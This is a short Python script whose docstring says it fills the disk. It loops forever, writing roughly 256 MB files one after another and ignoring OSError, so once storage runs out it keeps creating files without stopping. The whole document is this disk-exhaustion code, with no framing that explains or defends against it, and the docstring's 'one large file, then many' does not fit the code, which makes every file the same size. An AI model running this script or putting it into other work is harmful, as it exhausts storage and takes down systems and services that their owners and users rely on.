"""Fills the disk: one large file, then many."""

number = 0
while True:
    try:
        with open(f"file{number}", "wb") as file:
            for _ in range(64):
                file.write(bytes(2**22))
    except OSError:
        pass
    number += 1
